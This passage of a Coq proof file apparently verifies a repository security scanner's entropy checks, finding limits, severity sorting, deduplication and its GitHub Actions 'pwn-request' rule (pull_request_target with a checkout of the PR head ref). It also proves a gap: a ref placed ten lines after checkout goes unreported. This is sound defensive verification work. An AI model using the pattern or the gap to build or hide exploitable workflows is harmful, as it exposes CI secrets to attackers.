        Entropy.scanForHighEntropyDefault content path
        = Some (keptRegions raw
                ++ [Entropy.additionalRegionsFinding path
                      (length raw - length (keptRegions raw))])
        /\ riskLevel (Entropy.additionalRegionsFinding path
                        (length raw - length (keptRegions raw))) = YELLOW)
  /\ (forall content path,
        length (RecursiveGuard.scanForSecondaryScripts content path) <= 6)
  /\ (forall content path,
        5 < length (RecursiveGuard.rawFindings content path) ->
        RecursiveGuard.scanForSecondaryScripts content path
        = firstn 5 (RecursiveGuard.rawFindings content path)
          ++ [RecursiveGuard.additionalPatternsFinding path
                (length (RecursiveGuard.rawFindings content path) - 5)]
        /\ Forall (fun f => riskLevel f = RED)
                  (firstn 5 (RecursiveGuard.rawFindings content path))
        /\ riskLevel (RecursiveGuard.additionalPatternsFinding path
                        (length (RecursiveGuard.rawFindings content path) - 5)) = YELLOW).
Proof.
  split; [|split; [|split]].
  - intros content path.
    unfold Entropy.scanForHighEntropyDefault, Entropy.scanForHighEntropy.
    destruct (length content <? 100).
    + destruct (Entropy.classifyEntropy _); eexists; (split; [reflexivity | cbn [length]; lia]).
    + destruct (EntropyFacts.windowFindings_total content path 100 50) as [raw Hraw]; [lia|].
      rewrite Hraw. eexists. split; [reflexivity|]. apply entropy_limitFindings_length.
  - intros content path raw Hlen Hraw Hmany. split; [|reflexivity].
    unfold Entropy.scanForHighEntropyDefault, Entropy.scanForHighEntropy.
    replace (length content <? 100) with false by (symmetry; apply Nat.ltb_ge; exact Hlen).
    rewrite Hraw. rewrite entropy_limitFindings_many by exact Hmany. reflexivity.
  - intros content path.
    unfold RecursiveGuard.scanForSecondaryScripts, RecursiveGuard.limitFindings, take.
    destruct (Nat.ltb_spec 5 (length (RecursiveGuard.rawFindings content path))).
    + rewrite length_app, length_firstn. cbn [length]. lia.
    + lia.
  - intros content path Hmany. split; [|split; [|reflexivity]].
    + unfold RecursiveGuard.scanForSecondaryScripts, RecursiveGuard.limitFindings, take.
      replace (5 <? length (RecursiveGuard.rawFindings content path)) with true
        by (symmetry; apply Nat.ltb_lt; exact Hmany).
      reflexivity.
    + apply Forall_forall. intros f Hin.
      apply (rawFindings_many_RED content path); [lia|].
      rewrite <- (firstn_skipn 5 (RecursiveGuard.rawFindings content path)).
      apply in_or_app. left. exact Hin.
Qed.

Lemma findings_are_limited_to_six_witness :
  100 <= length sixRegions
  /\ Entropy.windowFindings sixRegions somePath 100 50 = Some sixRaw
  /\ 5 < length sixRaw
  /\ Entropy.scanForHighEntropyDefault sixRegions somePath
     = Some (keptRegions sixRaw
             ++ [Entropy.additionalRegionsFinding somePath
                   (length sixRaw - length (keptRegions sixRaw))]).
Proof.
  assert (Hlen : 100 <= length sixRegions) by (vm_compute; lia).
  assert (Hmany : 5 < length sixRaw) by (simpl; lia).
  split; [exact Hlen|]. split; [exact EntropyLoop.sixRegions_windowFindings|].
  split; [exact Hmany|].
  exact (proj1 (proj1 (proj2 findings_are_limited_to_six) sixRegions somePath sixRaw
                  Hlen EntropyLoop.sixRegions_windowFindings Hmany)).
Defined.

(** C4, as stated, fails: for [sixRegions] (1150 characters, three critical
    regions and three high ones) [scanForHighEntropy] returns six findings,
    three RED, two YELLOW and the summary. *)
Lemma scanForHighEntropy_six_findings :
  exists r, Entropy.scanForHighEntropyDefault sixRegions somePath = Some r
            /\ length r = 6
            /\ ~ length r <= 5
            /\ map riskLevel r = [RED; RED; RED; YELLOW; YELLOW; YELLOW].
Proof.
  unfold Entropy.scanForHighEntropyDefault, Entropy.scanForHighEntropy.
  replace (length sixRegions <? 100) with false by (vm_compute; reflexivity).
  rewrite EntropyLoop.sixRegions_windowFindings.
  rewrite entropy_limitFindings_many by (simpl; lia).
  eexists. split; [reflexivity|].
  split; [reflexivity|]. split; [simpl; lia | reflexivity].
Qed.

(** ** The pwn-request pattern *)

(** C8, as amended: when some line of a workflow mentions
    [pull_request_target], exactly one line mentions [actions/checkout], and
    a line [ref: ...] that mentions [pull_request], [head.ref] or [head.sha]
    follows that line within the next nine lines, with no line starting with
    [ref:], [-] or [uses:] in between, the output of the scanner holds the RED
    pwn-request finding exactly once; the findings before it are the per-line
    findings, each with a line number, which the pwn-request finding has
    not. *)
Theorem pwn_request_is_reported :
  forall content path before checkout between ref after,
    splitLines content = before ++ checkout :: between ++ ref :: after ->
    existsb (mentions (lit "pull_request_target")) (splitLines content) = true ->
    mentions (lit "actions/checkout") checkout = true ->
    existsb (mentions (lit "actions/checkout")) (before ++ between ++ ref :: after) = false ->
    length between <= 8 ->
    forallb plainStepLine between = true ->
    startsWith (trim ref) (lit "ref:") = true ->
    refersToPullRequestHead (trim ref) = true ->
    exists perLine rest,
      GitHub.scan content path = perLine ++ GitHub.pwnRequestFinding path :: rest
      /\ riskLevel (GitHub.pwnRequestFinding path) = RED
      /\ (forall f, In f perLine -> lineNumber f <> None)
      /\ ~ In (GitHub.pwnRequestFinding path) perLine
      /\ ~ In (GitHub.pwnRequestFinding path) rest.
Proof.
  intros content path before checkout between ref after
         Hlines Htrigger Hco Honly Hnear Hplain Href Hhead.
  rewrite existsb_app in Honly. apply orb_false_iff in Honly. destruct Honly as [_ Hlater].
  destruct (GitHubFacts.scanLines_checkout path before checkout between ref after
              Hco Hlater Hnear Hplain Href) as [HC HR].
  rewrite <- Hlines in HC, HR.
  destruct (GitHubFacts.scanRun_spec (splitLines content) path
              (GitHub.indexed (splitLines content)) GitHub.initialState)
    as [HP [_ [_ [perLine [HF HL]]]]].
  unfold GitHub.indexed in HP at 2. rewrite GitHubFacts.existsb_combine_seq in HP.
  rewrite Htrigger in HP. cbn [GitHub.initialState GitHub.hasPullRequestTarget orb] in HP.
  cbn [GitHub.initialState GitHub.findings app] in HF.
  fold (lineStep (splitLines content) path) in HC, HR.
  assert (Hscan : GitHub.scanLines (splitLines content) path
                  = fold_left (lineStep (splitLines content) path)
                              (GitHub.indexed (splitLines content)) GitHub.initialState)
    by reflexivity.
  rewrite <- Hscan in HP, HF.
  assert (Hno : ~ In (GitHub.pwnRequestFinding path) perLine).
  { intro Hin. rewrite Forall_forall in HL. apply (HL _ Hin). reflexivity. }
  exists perLine.
  exists (if GitHub.hasWorkflowRun (GitHub.scanLines (splitLines content) path)
             && includes content (lit "github.event.workflow_run")
          then [GitHub.workflowRunFinding path] else []).
  split; [|split; [reflexivity|split; [|split; [exact Hno|]]]].
  - unfold GitHub.scan. cbv zeta. rewrite HP, HC, HR. cbn [andb].
    unfold refersToPullRequestHead in Hhead. rewrite Hhead, HF.
    destruct (GitHub.hasWorkflowRun (GitHub.scanLines (splitLines content) path)
              && includes content (lit "github.event.workflow_run")).
    + rewrite <- app_assoc. reflexivity.
    + reflexivity.
  - intros f Hin. rewrite Forall_forall in HL. exact (HL f Hin).
  - destruct (GitHub.hasWorkflowRun (GitHub.scanLines (splitLines content) path)
              && includes content (lit "github.event.workflow_run")).
    + intros [H | []]. discriminate H.
    + intros [].
Qed.

Lemma pwn_request_is_reported_witness :
  splitLines pwnWorkflow = pwnBefore ++ pwnCheckout :: pwnBetween ++ pwnRef :: pwnAfter
  /\ existsb (mentions (lit "pull_request_target")) (splitLines pwnWorkflow) = true
  /\ mentions (lit "actions/checkout") pwnCheckout = true
  /\ existsb (mentions (lit "actions/checkout"))
             (pwnBefore ++ pwnBetween ++ pwnRef :: pwnAfter) = false
  /\ length pwnBetween <= 8
  /\ forallb plainStepLine pwnBetween = true
  /\ startsWith (trim pwnRef) (lit "ref:") = true
  /\ refersToPullRequestHead (trim pwnRef) = true
  /\ exists perLine rest,
      GitHub.scan pwnWorkflow workflowPath
      = perLine ++ GitHub.pwnRequestFinding workflowPath :: rest
      /\ riskLevel (GitHub.pwnRequestFinding workflowPath) = RED
      /\ (forall f, In f perLine -> lineNumber f <> None)
      /\ ~ In (GitHub.pwnRequestFinding workflowPath) perLine
      /\ ~ In (GitHub.pwnRequestFinding workflowPath) rest.
Proof.
  assert (H1 : splitLines pwnWorkflow
               = pwnBefore ++ pwnCheckout :: pwnBetween ++ pwnRef :: pwnAfter)
    by (vm_compute; reflexivity).
  assert (H2 : existsb (mentions (lit "pull_request_target")) (splitLines pwnWorkflow) = true)
    by (vm_compute; reflexivity).
  assert (H3 : mentions (lit "actions/checkout") pwnCheckout = true)
    by (vm_compute; reflexivity).
  assert (H4 : existsb (mentions (lit "actions/checkout"))
                       (pwnBefore ++ pwnBetween ++ pwnRef :: pwnAfter) = false)
    by (vm_compute; reflexivity).
  assert (H5 : length pwnBetween <= 8) by (simpl; lia).
  assert (H6 : forallb plainStepLine pwnBetween = true) by (vm_compute; reflexivity).
  assert (H7 : startsWith (trim pwnRef) (lit "ref:") = true) by (vm_compute; reflexivity).
  assert (H8 : refersToPullRequestHead (trim pwnRef) = true) by (vm_compute; reflexivity).
  repeat (split; [assumption|]).
  exact (pwn_request_is_reported pwnWorkflow workflowPath pwnBefore pwnCheckout pwnBetween
           pwnRef pwnAfter H1 H2 H3 H4 H5 H6 H7 H8).
Defined.

(** C8, as stated, fails: this workflow has the trigger and a checkout step
    whose [ref:] is the head of the pull request, on the tenth line after the
    checkout line; the scanner reports the trigger and nothing else. *)
Lemma pwn_request_missed :
  existsb (mentions (lit "pull_request_target")) (splitLines farRefWorkflow) = true
  /\ hasCheckoutOfHead (splitLines farRefWorkflow)
  /\ ~ In (GitHub.pwnRequestFinding workflowPath) (GitHub.scan farRefWorkflow workflowPath)
  /\ map riskLevel (GitHub.scan farRefWorkflow workflowPath) = [YELLOW].
Proof.
  split; [vm_compute; reflexivity|]. split.
  - exists farBefore, farCheckout, farBetween, farRef, farAfter.
    repeat split; vm_compute; reflexivity.
  - assert (Hscan : exists f, GitHub.scan farRefWorkflow workflowPath = [f]
                              /\ riskLevel f = YELLOW).
    { eexists. split; [vm_compute; reflexivity | reflexivity]. }
    destruct Hscan as [f [Hf Hy]]. rewrite Hf. split.
    + intros [H | []]. rewrite H in Hy. discriminate Hy.
    + simpl. rewrite Hy. reflexivity.
Qed.

(** ** The entropy of a text: what holds of it *)

(** The entropy is never negative. *)
Theorem calculateEntropy_nonneg : forall data, (0 <= Entropy.calculateEntropy data)%R.
Proof.
  intro data. destruct data as [|c data'].
  - unfold Entropy.calculateEntropy. simpl. lra.
  - rewrite EntropyValues.calculateEntropy_unfold by discriminate.
    apply EntropyCounts.entropySum_ge.
    intros n Hn. unfold Entropy.mapValues in Hn. apply in_map_iff in Hn.
    destruct Hn as [[k v] [Hv Hin]]. simpl in Hv. subst v.
    destruct (EntropyCounts.countFrequencies_CountsOf (c :: data')) as [_ Hcounts].
    apply Hcounts in Hin. destruct Hin as [Hn Hpos].
    split; [exact Hpos|]. rewrite Hn. unfold occurrences.
    eapply Nat.le_trans; [apply count_occ_bound | apply EntropyCounts.codePoints_length].
Qed.



Lemma surrogates_disjoint : forall c, isLeadSurrogate c && isTrailSurrogate c = false.
Proof.
  intro c. unfold isLeadSurrogate, isTrailSurrogate.
  destruct (N.leb_spec c 56319); destruct (N.leb_spec 56320 c);
    rewrite ?andb_false_r, ?andb_true_r, ?andb_false_l; try reflexivity.
  lia.
Qed.

Lemma codePoints_repeat : forall c n, codePoints (repeat c n) = repeat [c] n.
Proof.
  intros c. induction n as [|n IH]; [reflexivity|].
  destruct n as [|n]; [reflexivity|].
  change (repeat c (S (S n))) with (c :: c :: repeat c n).
  change (codePoints (c :: c :: repeat c n))
    with (if isLeadSurrogate c && isTrailSurrogate c
          then [c; c] :: codePoints (repeat c n)
          else [c] :: codePoints (c :: repeat c n)).
  rewrite surrogates_disjoint.
  change (c :: repeat c n) with (repeat c (S n)). rewrite IH. reflexivity.
Qed.

Lemma countChar_repeat : forall c n k,
  fold_left countChar (repeat [c] n) [([c], k)] = [([c], k + n)].
Proof.
  intros c. induction n as [|n IH]; intro k.
  - simpl. rewrite Nat.add_0_r. reflexivity.
  - change (repeat [c] (S n)) with ([c] :: repeat [c] n). cbn [fold_left].
    unfold countChar at 2. cbn [Entropy.mapGet Entropy.mapSet].
    rewrite str_eqb_refl. cbn [Entropy.orZero].
    rewrite IH. f_equal. f_equal. lia.
Qed.

(** The entropy of a text made of one code unit repeated is 0. *)
Theorem calculateEntropy_repeated_unit : forall c n,
  Entropy.calculateEntropy (repeat c n) = 0%R.
Proof.
  intros c n. destruct n as [|n]; [reflexivity|].
  rewrite EntropyValues.calculateEntropy_unfold by discriminate.
  assert (Hmap : Entropy.countFrequencies (repeat c (S n)) = [([c], S n)]).
  { unfold Entropy.countFrequencies. rewrite codePoints_repeat.
    change (fun frequencies char =>
              Entropy.mapSet frequencies char
                (Entropy.orZero (Entropy.mapGet frequencies char) + 1))
      with countChar.
    change (repeat [c] (S n)) with ([c] :: repeat [c] n). cbn [fold_left].
    change (countChar [] [c]) with [([c], 1)].
    rewrite countChar_repeat. reflexivity. }
  rewrite Hmap, repeat_length.
  change (Entropy.mapValues [([c], S n)]) with (repeat (S n) 1).
  rewrite EntropyValues.entropySum_repeat.
  assert (Hn : (INR (S n) <> 0)%R) by (apply not_0_INR; discriminate).
  replace (INR (S n) / INR (S n))%R with 1%R by (field; exact Hn).
  rewrite EntropyValues.log2_1. simpl. lra.
Qed.

(** Findings are presented by severity: after [sortFindingsBySeverity] no
    finding stands before a more severe one, and no finding is lost or
    added. *)
Theorem sortFindingsBySeverity_sorted : forall fs,
  Permutation fs (sortFindingsBySeverity fs)
  /\ forall i j f g,
       i < j ->
       nth_error (sortFindingsBySeverity fs) i = Some f ->
       nth_error (sortFindingsBySeverity fs) j = Some g ->
       severityRank (riskLevel g) <= severityRank (riskLevel f).
Proof.
  intro fs. split; [apply RiskClassifierFacts.sortFindingsBySeverity_perm|].
  assert (Hsorted : forall l,
            StronglySorted (fun f g => severityRank (riskLevel g) <= severityRank (riskLevel f))
                           (sortFindingsBySeverity l)).
  { induction l as [|x l IH]; [constructor|]. simpl.
    revert IH. generalize (sortFindingsBySeverity l). intros sorted IH.
    induction IH as [|g rest Hrest IHrest Hall]; simpl.
    - constructor; constructor.
    - destruct (severityOrder (riskLevel x) <=? severityOrder (riskLevel g)) eqn:E.
      + apply Nat.leb_le in E. constructor; [constructor; assumption|].
        constructor.
        * destruct (riskLevel x), (riskLevel g); simpl in *; lia.
        * eapply Forall_impl; [|exact Hall]. intros h Hh.
          destruct (riskLevel x), (riskLevel g), (riskLevel h); simpl in *; lia.
      + apply Nat.leb_gt in E. constructor; [exact IHrest|].
        assert (Hperm : Permutation (x :: rest) (insertBySeverity x rest))
          by apply RiskClassifierFacts.insertBySeverity_perm.
        apply Forall_forall. intros h Hh.
        apply (Permutation_in _ (Permutation_sym Hperm)) in Hh. destruct Hh as [Hh | Hh].
        * subst h. destruct (riskLevel x), (riskLevel g); simpl in *; lia.
        * rewrite Forall_forall in Hall. apply Hall. exact Hh. }
  specialize (Hsorted fs). revert Hsorted. generalize (sortFindingsBySeverity fs).
  intros l Hsorted. induction Hsorted as [|a l Hl IH Hall]; intros i j f g Hij Hi Hj.
  - destruct i; discriminate.
  - destruct j as [|j]; [lia|]. destruct i as [|i]; simpl in Hi, Hj.
    + inversion Hi; subst. apply nth_error_In in Hj. rewrite Forall_forall in Hall.
      apply Hall. exact Hj.
    + apply (IH i j f g); [lia | exact Hi | exact Hj].
Qed.

Lemma filter_insertBySeverity : forall level f l,
  filter (fun h => RiskLevel_eqb (riskLevel h) level) (insertBySeverity f l)
  = if RiskLevel_eqb (riskLevel f) level
    then f :: filter (fun h => RiskLevel_eqb (riskLevel h) level) l
    else filter (fun h => RiskLevel_eqb (riskLevel h) level) l.
Proof.
  intros level f. induction l as [|g l IH]; simpl.
  - destruct (RiskLevel_eqb (riskLevel f) level); reflexivity.
  - destruct (severityOrder (riskLevel f) <=? severityOrder (riskLevel g)) eqn:E; simpl.
    + destruct (RiskLevel_eqb (riskLevel f) level); reflexivity.
    + rewrite IH. apply Nat.leb_gt in E.
      destruct (riskLevel f), (riskLevel g), level; simpl in *; try reflexivity; lia.
Qed.

(** The sort is stable: within one severity, the findings keep the order
    they had. *)
Theorem sortFindingsBySeverity_stable : forall level fs,
  filter (fun h => RiskLevel_eqb (riskLevel h) level) (sortFindingsBySeverity fs)
  = filter (fun h => RiskLevel_eqb (riskLevel h) level) fs.
Proof.
  intros level. induction fs as [|f fs IH]; [reflexivity|].
  simpl. rewrite filter_insertBySeverity, IH. reflexivity.
Qed.

Lemma sortFindingsBySeverity_sorted_witness :
  Permutation [colonInPath; greenFinding] (sortFindingsBySeverity [colonInPath; greenFinding])
  /\ severityRank (riskLevel greenFinding) <= severityRank (riskLevel colonInPath).
Proof.
  destruct (sortFindingsBySeverity_sorted [colonInPath; greenFinding]) as [Hperm Hsorted].
  split; [exact Hperm|].
  apply (Hsorted 0 1 colonInPath greenFinding); [lia | reflexivity | reflexivity].
Defined.

(** ** Thresholds and partial scans *)

(** The classes of [classifyEntropy] are cut at 3.5, 5.5 and 6.5, a value on
    a boundary falls into the higher class, and a larger entropy never gets a
    lower class. *)
Theorem classifyEntropy_thresholds :
  Entropy.classifyEntropy 3.5%R = Entropy.elevated
  /\ Entropy.classifyEntropy 5.5%R = Entropy.high
  /\ Entropy.classifyEntropy 6.5%R = Entropy.critical
  /\ forall e : R,
       (Entropy.classifyEntropy e = Entropy.normal <-> (e < 3.5)%R)
       /\ (Entropy.classifyEntropy e = Entropy.elevated <-> (3.5 <= e < 5.5)%R)
       /\ (Entropy.classifyEntropy e = Entropy.high <-> (5.5 <= e < 6.5)%R)
       /\ (Entropy.classifyEntropy e = Entropy.critical <-> (6.5 <= e)%R).
Proof.
  assert (H : forall e : R,
       (Entropy.classifyEntropy e = Entropy.normal <-> (e < 3.5)%R)
       /\ (Entropy.classifyEntropy e = Entropy.elevated <-> (3.5 <= e < 5.5)%R)
       /\ (Entropy.classifyEntropy e = Entropy.high <-> (5.5 <= e < 6.5)%R)
       /\ (Entropy.classifyEntropy e = Entropy.critical <-> (6.5 <= e)%R)).
  { intro e. unfold Entropy.classifyEntropy, Entropy.CRITICAL, Entropy.WARNING, Entropy.NORMAL.
    destruct (Rge_dec e 6.5); [|destruct (Rge_dec e 5.5); [|destruct (Rge_dec e 3.5)]];
      repeat split; intros; try discriminate; try reflexivity; lra. }
  split; [apply H; lra|]. split; [apply H; lra|]. split; [apply H; lra|]. exact H.
Qed.

(** When some files were read and some were not, every result of
    [scanRepository] holds the partial-scan finding, which names up to three
    of the skipped paths, and its [overallRisk] is not GREEN. *)
Theorem scanRepository_partial_scan :
  forall scanners files repository config now r,
    (exists file, In file files /\ wasRead file = true) ->
    (exists file, In file files /\ unreadable file) ->
    scanRepository scanners files repository config now = Some r ->
    In (partialScanFinding repository (skippedFiles r)) (findings r)
    /\ skippedFiles r = map path (filter (fun f => negb (wasRead f)) files)
    /\ overallRisk r <> GREEN.
Proof.
  intros scanners files repository config now r [fr [Hfr Hread]] [fu [Hfu Hun]].
  unfold scanRepository.
  destruct (visitFiles scanners files config) as [v|] eqn:Hv; [|discriminate].
  destruct (EngineFacts.visitFiles_paths scanners config files v Hv) as [Hsc Hsk].
  cbn [bind].
  assert (Hscanned : (length (visitedScanned v) =? 0) = false).
  { rewrite Hsc. apply Nat.eqb_neq. rewrite length_map.
    assert (Hin : In fr (filter wasRead files)) by (apply filter_In; split; assumption).
    destruct (filter wasRead files); [destruct Hin | simpl; lia]. }
  assert (Hskipped : (0 <? length (visitedSkipped v)) = true).
  { rewrite Hsk. apply Nat.ltb_lt. rewrite length_map.
    assert (Hin : In fu (filter (fun f => negb (wasRead f)) files)).
    { apply filter_In. split; [exact Hfu|].
      rewrite (proj2 (EngineFacts.wasRead_false_iff fu) Hun). reflexivity. }
    destruct (filter (fun f => negb (wasRead f)) files); [destruct Hin | simpl; lia]. }
  assert (Hscanned' : (0 <? length (visitedScanned v)) = true).
  { apply Nat.ltb_lt. apply Nat.eqb_neq in Hscanned. lia. }
  rewrite Hscanned, Hskipped, Hscanned'. cbn [andb].
  intro Hr. inversion Hr; subst r. clear Hr.
  cbn [findings skippedFiles overallRisk createScanResult].
  split; [|split; [exact Hsk|]].
  - apply RiskClassifierFacts.sortFindingsBySeverity_In. apply in_or_app. right.
    left. reflexivity.
  - intro Hgreen.
    destruct (RiskClassifierFacts.determineOverallRisk_cases
                (aggregateFindings (visitedFindings v)
                 ++ [partialScanFinding repository (visitedSkipped v)]))
      as [[Hr _] | [[Hr _] | [_ Hall]]]; try congruence.
    specialize (Hall (partialScanFinding repository (visitedSkipped v))).
    assert (Hy : riskLevel (partialScanFinding repository (visitedSkipped v)) = GREEN)
      by (apply Hall; apply in_or_app; right; left; reflexivity).
    discriminate Hy.
Qed.

Lemma scanRepository_partial_scan_witness :
  exists r,
    scanRepository silentScanners [readManifest; missingManifest] someRepository
                   defaultConfig 0 = Some r
    /\ In (partialScanFinding someRepository (skippedFiles r)) (findings r)
    /\ skippedFiles r
       = map path (filter (fun f => negb (wasRead f)) [readManifest; missingManifest])
    /\ overallRisk r <> GREEN.
Proof.
  assert (Hret : scannersReturn silentScanners [readManifest; missingManifest]).
  { intros file [Hf | [Hf | []]] _; subst file; discriminate. }
  destruct (scanRepository_returns silentScanners [readManifest; missingManifest]
              someRepository defaultConfig 0 Hret) as [r Hr].
  exists r. split; [exact Hr|].
  apply (scanRepository_partial_scan silentScanners [readManifest; missingManifest]
           someRepository defaultConfig 0 r).
  - exists readManifest. split; [left; reflexivity | reflexivity].
  - exists missingManifest. split; [right; left; reflexivity | left; reflexivity].
  - exact Hr.
Defined.

(* ================================================================== *)
(** * The rest of the engine

    Properties of the code around the scanners: what the risk classifier
    keeps of the findings, how a repository scan is put together, which
    files are asked for and which scanner gets them, the Cargo scanner, and
    what the analyzers can and cannot report. *)

Import FilePathMatcher Summary.

(** ** Findings on their way to the result *)

Module RiskFlow.
Import RiskClassifierFacts.

(** The key starts with the severity, so findings with one key have one
    severity. *)
Lemma findingKey_riskLevel : forall f g,
  findingKey f = findingKey g -> riskLevel f = riskLevel g.
Proof.
  intros f g H. unfold findingKey in H.
  destruct (riskLevel f), (riskLevel g); try reflexivity;
    cbv [RiskLevel_toString lit list_ascii_of_string map N_of_ascii N_of_digits app] in H;
    discriminate H.
Qed.

(** The overall risk depends only on which severities are present. *)
Lemma determineOverallRisk_same_levels : forall a b,
  (forall l, (exists f, In f a /\ riskLevel f = l) <-> (exists f, In f b /\ riskLevel f = l)) ->
  determineOverallRisk a = determineOverallRisk b.
Proof.
  intros a b H.
  destruct (determineOverallRisk_cases a) as [[Ea Ha] | [[Ea [Ha1 Ha2]] | [Ea Ha]]];
  destruct (determineOverallRisk_cases b) as [[Eb Hb] | [[Eb [Hb1 Hb2]] | [Eb Hb]]];
    rewrite Ea, Eb; try reflexivity; exfalso.
  - apply H in Ha. destruct Ha as [f [Hin Hf]]. exact (Hb1 f Hin Hf).
  - apply H in Ha. destruct Ha as [f [Hin Hf]]. rewrite (Hb f Hin) in Hf. discriminate.
  - apply H in Hb. destruct Hb as [f [Hin Hf]]. exact (Ha1 f Hin Hf).
  - apply H in Ha2. destruct Ha2 as [f [Hin Hf]]. rewrite (Hb f Hin) in Hf. discriminate.
  - apply H in Hb. destruct Hb as [f [Hin Hf]]. rewrite (Ha f Hin) in Hf. discriminate.
  - apply H in Hb2. destruct Hb2 as [f [Hin Hf]]. rewrite (Ha f Hin) in Hf. discriminate.
Qed.

(** Every finding is dropped only for a finding with its key that came
    before it. *)
Lemma dedupeLoop_represents : forall fs seen f,
  In f fs ->
  In (findingKey f) seen
  \/ exists g, In g (dedupeLoop fs seen) /\ findingKey g = findingKey f.
Proof.
  induction fs as [|h fs IH]; intros seen f Hin; [destruct Hin|].
  simpl. destruct (arrayIncludes seen (findingKey h)) eqn:E.
  - destruct Hin as [Hin | Hin].
    + subst h. left. apply arrayIncludes_In. exact E.
    + apply IH. exact Hin.
  - destruct Hin as [Hin | Hin].
    + subst h. right. exists f. split; [left; reflexivity | reflexivity].
    + destruct (IH (findingKey h :: seen) f Hin) as [[Hk | Hseen] | [g [Hg Hk]]].
      * right. exists h. split; [left; reflexivity | exact Hk].
      * left. exact Hseen.
      * right. exists g. split; [right; exact Hg | exact Hk].
Qed.

Lemma deduplicateFindings_represents : forall fs f,
  In f fs -> exists g, In g (deduplicateFindings fs) /\ findingKey g = findingKey f.
Proof.
  intros fs f Hin. destruct (dedupeLoop_represents fs [] f Hin) as [[] | H]. exact H.
Qed.

Lemma dedupeLoop_length : forall fs seen, length (dedupeLoop fs seen) <= length fs.
Proof.
  induction fs as [|h fs IH]; intro seen; simpl; [lia|].
  destruct (arrayIncludes seen (findingKey h)); simpl.
  - specialize (IH seen). lia.
  - specialize (IH (findingKey h :: seen)). lia.
Qed.

Lemma deduplicateFindings_levels : forall fs l,
  (exists f, In f (deduplicateFindings fs) /\ riskLevel f = l)
  <-> (exists f, In f fs /\ riskLevel f = l).
Proof.
  intros fs l. split; intros [f [Hin Hl]].
  - exists f. split; [exact (dedupeLoop_subset _ _ _ Hin) | exact Hl].
  - destruct (deduplicateFindings_represents fs f Hin) as [g [Hg Hk]].
    exists g. split; [exact Hg|]. rewrite (findingKey_riskLevel g f Hk). exact Hl.
Qed.

Lemma sortFindingsBySeverity_levels : forall fs l,
  (exists f, In f (sortFindingsBySeverity fs) /\ riskLevel f = l)
  <-> (exists f, In f fs /\ riskLevel f = l).
Proof.
  intros fs l. split; intros [f [Hin Hl]]; exists f; split; try exact Hl;
    apply sortFindingsBySeverity_In; exact Hin.
Qed.

(** The head of the sorted list is at least as severe as every finding. *)
Lemma insertBySeverity_head : forall f l,
  (forall a rest, l = a :: rest ->
     forall g, In g l -> severityOrder (riskLevel a) <= severityOrder (riskLevel g)) ->
  forall a rest, insertBySeverity f l = a :: rest ->
  forall g, In g (insertBySeverity f l) ->
            severityOrder (riskLevel a) <= severityOrder (riskLevel g).
Proof.
  intros f l Hl a rest Ha g Hg.
  destruct l as [|h l'].
  - simpl in *. inversion Ha; subst. destruct Hg as [Hg | []]. subst. lia.
  - simpl in Ha, Hg.
    destruct (severityOrder (riskLevel f) <=? severityOrder (riskLevel h)) eqn:E.
    + apply Nat.leb_le in E. inversion Ha; subst.
      destruct Hg as [Hg | Hg]; [subst; lia|].
      specialize (Hl h l' eq_refl g Hg). lia.
    + apply Nat.leb_gt in E. inversion Ha; subst.
      destruct Hg as [Hg | Hg]; [subst; lia|].
      apply (Permutation_in _ (Permutation_sym (insertBySeverity_perm f l'))) in Hg.
      destruct Hg as [Hg | Hg]; [subst; lia|].
      apply (Hl a l' eq_refl). right. exact Hg.
Qed.

Lemma sortFindingsBySeverity_head : forall fs a rest,
  sortFindingsBySeverity fs = a :: rest ->
  forall g, In g fs -> severityOrder (riskLevel a) <= severityOrder (riskLevel g).
Proof.
  assert (H : forall fs a rest,
            sortFindingsBySeverity fs = a :: rest ->
            forall g, In g (sortFindingsBySeverity fs) ->
                      severityOrder (riskLevel a) <= severityOrder (riskLevel g)).
  { induction fs as [|f fs IH]; intros a rest Ha g Hg; [discriminate|].
    simpl in Ha, Hg. eapply insertBySeverity_head; eauto. }
  intros fs a rest Ha g Hg. apply (H fs a rest Ha). apply sortFindingsBySeverity_In. exact Hg.
Qed.

End RiskFlow.

Import RiskFlow RiskClassifierFacts.

(** The overall risk is the same before and after the duplicates are removed
    and before and after the findings are sorted; so [aggregateFindings]
    and [createScanResult] can be applied in any order. *)
Theorem overall_risk_survives_dedup_and_sort : forall fs,
  determineOverallRisk (deduplicateFindings fs) = determineOverallRisk fs
  /\ determineOverallRisk (sortFindingsBySeverity fs) = determineOverallRisk fs
  /\ forall arrays, determineOverallRisk (aggregateFindings arrays)
                    = determineOverallRisk (concat arrays).
Proof.
  intro fs. split; [|split].
  - apply determineOverallRisk_same_levels. intro l. apply deduplicateFindings_levels.
  - apply determineOverallRisk_same_levels. intro l. apply sortFindingsBySeverity_levels.
  - intro arrays. unfold aggregateFindings.
    apply determineOverallRisk_same_levels. intro l. apply deduplicateFindings_levels.
Qed.

(** Deduplication loses no kind of finding: the result is made of findings of
    the input, is no longer than it, and holds for every input finding one
    with the same key (hence the same severity); a list whose keys are
    pairwise distinct is left as it is. *)
Theorem deduplicateFindings_keeps_every_key : forall fs,
  incl (deduplicateFindings fs) fs
  /\ length (deduplicateFindings fs) <= length fs
  /\ (forall f, In f fs ->
        exists g, In g (deduplicateFindings fs)
                  /\ findingKey g = findingKey f /\ riskLevel g = riskLevel f)
  /\ (NoDup (map findingKey fs) -> deduplicateFindings fs = fs).
Proof.
  intro fs. split; [|split; [|split]].
  - intros f Hf. exact (dedupeLoop_subset _ _ _ Hf).
  - apply dedupeLoop_length.
  - intros f Hf. destruct (deduplicateFindings_represents fs f Hf) as [g [Hg Hk]].
    exists g. split; [exact Hg|]. split; [exact Hk | exact (findingKey_riskLevel g f Hk)].
  - intro H. apply dedupeLoop_fixed; [exact H | intros f _ []].
Qed.

Lemma deduplicateFindings_keeps_every_key_witness :
  NoDup (map findingKey [greenFinding; colonInPath])
  /\ deduplicateFindings [greenFinding; colonInPath] = [greenFinding; colonInPath].
Proof.
  assert (H : NoDup (map findingKey [greenFinding; colonInPath])).
  { constructor; [|constructor; [intros [] | constructor]].
    intros [H | []]. vm_compute in H. discriminate H. }
  split; [exact H|].
  exact (proj2 (proj2 (proj2 (deduplicateFindings_keeps_every_key
                                [greenFinding; colonInPath]))) H).
Defined.

(** The first finding of a result carries the overall risk. *)
Theorem first_finding_has_overall_risk : forall fs scanned skipped repository now,
  fs <> [] ->
  exists first rest,
    findings (createScanResult fs scanned skipped repository now) = first :: rest
    /\ riskLevel first = overallRisk (createScanResult fs scanned skipped repository now).
Proof.
  intros fs scanned skipped repository now Hne. simpl.
